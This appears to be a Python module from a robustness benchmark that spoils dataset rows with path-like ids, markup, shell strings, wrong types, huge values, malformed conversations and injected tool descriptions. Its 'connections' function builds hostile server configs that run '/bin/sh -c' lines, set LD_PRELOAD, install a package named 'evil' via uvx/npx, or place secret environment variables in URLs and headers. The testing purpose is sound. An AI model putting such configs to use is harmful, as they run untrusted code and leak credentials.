"""What a stranger writes into rows: ids that are paths, markup, marks, tokens, values of other types and sizes, connections."""

from collections.abc import Callable
from typing import Any

from benchmarks.hostile.sites import Site, Spoil
from benchmarks.hostile.sound import KINDS
from benchmarks.hostile.spoiling import spoiled, texts_spoiled
from benchmarks.hostile.texts import (
    KEYS,
    Grammar,
    Raw,
    deep,
    long,
    mark,
    markup,
    name,
    number,
    path,
    shell,
    text,
    token,
    url,
    value,
    wide,
)
from benchmarks.hostile.versions import Draft

Json = dict[str, Any]


def ids(site: Site, draft: Draft) -> None:
    """Ids that are paths, and references to them."""
    draft.refit = False
    for row in draft.rows:
        drawn = path(site.rng, site.lures).replace("\0", "")
        for field in row:
            if field == "id" or (field.endswith("_id") and isinstance(row[field], str) and site.rng.random() < 0.5):
                row[field] = drawn
    if site.rng.random() < 0.2:
        for row in draft.rows:
            row["id"] = draft.rows[0]["id"]


def _texts(draw: Grammar, share: float) -> Spoil:
    def spoil(site: Site, draft: Draft) -> None:
        def drawn(rng: Any, lures: Any) -> str:
            found = draw(rng, lures)
            if draw in (markup, shell, url):
                site.markup.append(found)
            if draw is mark and draft.kind != "tasks":
                site.prompts.append(found)
            return found

        draft.refit = site.rng.random() < 0.8
        draft.rows = [texts_spoiled(site.rng, row, site.lures, share, drawn) for row in draft.rows]

    return spoil


def types(site: Site, draft: Draft) -> None:
    """Values of other types anywhere in the rows."""
    draft.rows = [spoiled(site.rng, row, site.lures, site.rng.randint(1, 3)) for row in draft.rows]
    draft.rows = [row for row in draft.rows if isinstance(row, dict)]
    draft.refit = site.rng.random() < 0.8


def inside(site: Site, draft: Draft) -> None:
    """Values of other types inside the JSON columns, so that the columns themselves are as they should be."""
    rng = site.rng
    for row in draft.rows:
        for holder, field in _opaque(draft.kind, row):
            if rng.random() < 0.5:
                holder[field] = spoiled(rng, holder[field], site.lures, rng.randint(1, 4))


def sizes(site: Site, draft: Draft) -> None:
    """Numbers, nestings, lists and texts that no reader expects, inside the JSON columns or as texts."""
    rng = site.rng
    draft.refit = False
    row = rng.choice(draft.rows)
    holder, field = rng.choice(list(_opaque(draft.kind, row)))
    drawn = rng.choice((deep(rng), wide(rng), number(rng), Raw('"\\ud800"'), long(rng, site.lures), {"x": deep(rng)},
                        [number(rng)]))
    if isinstance(holder[field], dict) and rng.random() < 0.6:
        holder[field][rng.choice(list(holder[field]) or ["x"])] = drawn
    else:
        holder[field] = drawn
    for other in draft.rows:
        for key in other:
            if isinstance(other[key], str) and rng.random() < 0.2:
                other[key] = long(rng, site.lures)


def empty(site: Site, draft: Draft) -> None:
    """No rows, rows of nothing, or the same row very often."""
    kind = site.rng.choice(("none", "nulls", "repeated", "cleared"))
    draft.refit = False
    if kind == "repeated":
        draft.rows = draft.rows[:1] * 3_000
    elif kind == "none":
        draft.rows = []
    else:
        draft.rows = [dict.fromkeys(row) if kind == "nulls" else {field: _cleared(part) for field, part in row.items()}
                      for row in draft.rows]


def connections(site: Site, draft: Draft) -> None:
    """Servers that are started by whoever takes a row's connection as it stands."""
    rng, lures = site.rng, site.lures
    for row in draft.rows:
        names = rng.sample(KEYS, rng.randint(1, len(KEYS)))
        line = lures.shell(rng)
        row["connection"] = rng.choice((
            {"type": "stdio", "command": "/bin/sh", "args": ["-c", line], "env": names},
            {"type": "stdio", "command": "bash", "args": ["-lc", f"{line}; cat"], "env": names},
            {"type": "stdio", "command": "env", "args": ["sh", "-c", line], "env": [*names, "LD_PRELOAD", "PYTHONSTARTUP"]},
            {"type": "stdio", "command": "python3", "args": ["-c", lures.python(rng)], "env": names},
            {"type": "stdio", "command": rng.choice(("uvx", "npx")), "args": [rng.choice(("evil", "--from", "-y")), "evil==1"],
             "env": names},
            {"type": "stdio", "command": rng.choice(("docker", "git", "curl", "uv")), "args": ["run", "--rm", "evil"],
             "env": names},
            {"type": "stdio", "command": "/bin/sh", "args": ["-c", line, "mcp-server-git"],
             "env": {one: f"${{{one}}}" for one in names}},
            {"type": "http", "url": lures.url(rng), "headers": ["Authorization", *names]},
            {"type": "http", "url": f"${{{names[0]}}}@127.0.0.1:{lures.port}", "headers": names},
            {"type": "http", "url": f"{lures.url(rng)}/${{{names[0]}}}", "headers": {"X-Key": f"${{{names[0]}}}"}},
            {"type": rng.choice(("sse", "ws", "", 1)), "url": lures.url(rng), "command": "/bin/sh", "args": ["-c", line]},
            {"command": line, "args": [], "env": []}, {"command": ["/bin/sh", "-c", line]}, spoiled(rng, {
                "type": "stdio", "command": "/bin/sh", "args": ["-c", line], "env": names}, lures, 2),
        ))
        if rng.random() < 0.4:
            row["name"] = rng.choice(("shop2", "git", "filesystem", name(rng, lures)))


def documents(site: Site, draft: Draft) -> None:
    """Schemas and descriptions of tools that are spoiled where stages read them."""
    rng = site.rng
    for row in draft.rows:
        for tool in row["tools"]:
            tool["parameters"] = spoiled(rng, tool["parameters"], site.lures, rng.randint(1, 3))
            tool["description"] += rng.choice((mark, token, markup, long))(rng, site.lures)
            if rng.random() < 0.3:
                tool["name"] = rng.choice((name, path, text))(rng, site.lures)


def conversations(site: Site, draft: Draft) -> None:
    """Messages in orders and forms that no conversation has."""
    rng = site.rng
    for row in draft.rows:
        messages = row["messages"]
        for _ in range(rng.randint(1, 3)):
            index = rng.randrange(len(messages)) if messages else 0
            call = {"id": value(rng, site.lures), "type": "function", "function": {"name": value(rng, site.lures),
                                                                                   "arguments": value(rng, site.lures)}}
            odd = (value(rng, site.lures), {}, {"role": text(rng, site.lures), "content": "x"},
                   {"role": "assistant", "tool_calls": [call]},
                   {"role": "tool", "content": token(rng, site.lures), "tool_call_id": None},
                   {"role": "assistant", "content": None},
                   {"role": "user", "content": [{"type": "image_url", "image_url": {"url": site.lures.url(rng)}}]}, [], "system",
                   {"role": "system", "content": mark(rng, site.lures)},
                   {"role": "assistant", "tool_calls": value(rng, site.lures)})
            messages.insert(index, rng.choice(odd))
        if rng.random() < 0.2:
            row["messages"] = messages * 300


def _opaque(kind: str, row: Json) -> list[tuple[Any, Any]]:
    """Where the JSON values of a row are: their holders and names."""
    found: list[tuple[Any, Any]] = []
    lists = {"tools": [("tools", "parameters"), ("tools", "annotations"), ("tools", "output_schema")],
             "questions": [("nodes", "answer"),
             ("nodes", "program"), ("nodes", "call")], "environments": [("tools", "schema")], "arenas": [],
             "trajectories": [("messages", None), ("tools", None)], "sft": [("messages", None), ("tools", None)]}
    plain = {"tools": ["connection"], "questions": ["knowledge", "answer"], "environments": ["answer"], "arenas": ["answer"],
             "trajectories": ["sampling"]}
    for outer, inner in lists.get(kind, []):
        parts = row.get(outer) or []
        found += [(part, inner) for part in parts] if inner else [(parts, index) for index in range(len(parts))]
    found += [(row, field) for field in plain.get(kind, [])]
    if kind in ("environments", "arenas"):
        found += [(row["world"], field) for field in ("initial_state", "final_state")]
        found += [(goal, field) for turn in row["turns"] for goal in turn["goals"]
                  for field in ("arguments", "response", "answer")]
    if kind == "arenas":
        found += [(row[field], index) for field in ("prompt", "tools") for index in range(len(row[field]))]
    return found or [(row, "models")]


def _cleared(part: Any) -> Any:
    clear: dict[type, Callable[[], Any]] = {str: str, list: list, dict: dict, int: int, float: float}
    return clear[type(part)]() if type(part) in clear else part


ROWS: dict[str, Spoil] = {
    "ids": ids, "paths": _texts(path, 0.3), "names": _texts(name, 0.3), "markup": _texts(markup, 0.6), "marks": _texts(mark, 0.4),
    "tokens": _texts(token, 0.5), "shell": _texts(shell, 0.3), "urls": _texts(url, 0.3), "any text": _texts(text, 0.3),
    "types": types,
    "inside": inside, "sizes": sizes, "empty": empty, "connections": connections, "documents": documents,
    "conversations": conversations,
}
ONLY = {"connections": ("tools",), "documents": ("tools",), "conversations": ("trajectories", "sft"),
        "inside": tuple(kind for kind in KINDS if kind not in ("chains", "tasks")),
        "sizes": tuple(kind for kind in KINDS if kind not in ("chains", "tasks"))}
